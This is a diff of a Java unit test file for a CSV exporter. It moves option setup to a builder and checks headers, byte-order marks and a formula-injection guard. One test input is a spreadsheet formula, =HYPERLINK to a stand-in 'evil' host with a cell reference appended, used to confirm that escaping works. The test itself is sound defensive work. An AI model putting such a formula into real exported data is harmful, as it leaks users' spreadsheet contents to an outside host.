@@ -15,7 +15,7 @@ import tools.jackson.databind.JsonNode;
 
 class CsvSinkTest {
     private static final SinkOptions ROW_AND_TITLE =
-            DEFAULT.withColumns(Columns.ALL.select(List.of("row", "title", "word_count")));
+            SinkOptions.builder().columns(Columns.ALL.select(List.of("row", "title", "word_count"))).build();
 
     @Test
     void theFirstRowHoldsTheNamesAndEveryRowAsManyFields() {
@@ -62,17 +62,17 @@ class CsvSinkTest {
     @Test
     void aHostilePageCannotRunInASpreadsheetUnlessTheUserTurnsTheGuardOff() {
         CrawlRecord hostile = SampleRecords.titled("=HYPERLINK(\"http://evil/\"&A1)", Map.of("k", ";=1"));
-        SinkOptions options = DEFAULT.withColumns(Columns.ALL.select(List.of("title", "input")));
+        SinkOptions options = SinkOptions.builder().columns(Columns.ALL.select(List.of("title", "input"))).build();
         assertThat(Written.by(CSV, options, hostile))
                 .isEqualTo(
                         "title,input\r\n\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";\\u003d1\"\"}\"\r\n");
-        assertThat(Written.by(CSV, options.withFormulaSafe(false), hostile))
+        assertThat(Written.by(CSV, options.toBuilder().formulaSafe(false).build(), hostile))
                 .isEqualTo("title,input\r\n\"=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";=1\"\"}\"\r\n");
     }
 
     @Test
     void theUrlOfARowIsGuardedAsAllTextIs() {
-        SinkOptions options = DEFAULT.withColumns(Columns.ALL.select(List.of("url")));
+        SinkOptions options = SinkOptions.builder().columns(Columns.ALL.select(List.of("url"))).build();
         assertThat(Written.by(CSV, options, SampleRecords.invalid(1, "-1+1"))).isEqualTo("url\r\n'-1+1\r\n");
     }
 
@@ -84,7 +84,7 @@ class CsvSinkTest {
 
     @Test
     void aByteOrderMarkComesFirstWhereAskedFor() {
-        assertThat(Written.by(CSV, ROW_AND_TITLE.withByteOrderMark(true))).isEqualTo("\uFEFFrow,title,word_count\r\n");
+        assertThat(Written.by(CSV, ROW_AND_TITLE.toBuilder().byteOrderMark(true).build())).isEqualTo("\uFEFFrow,title,word_count\r\n");
     }
 
     @Test
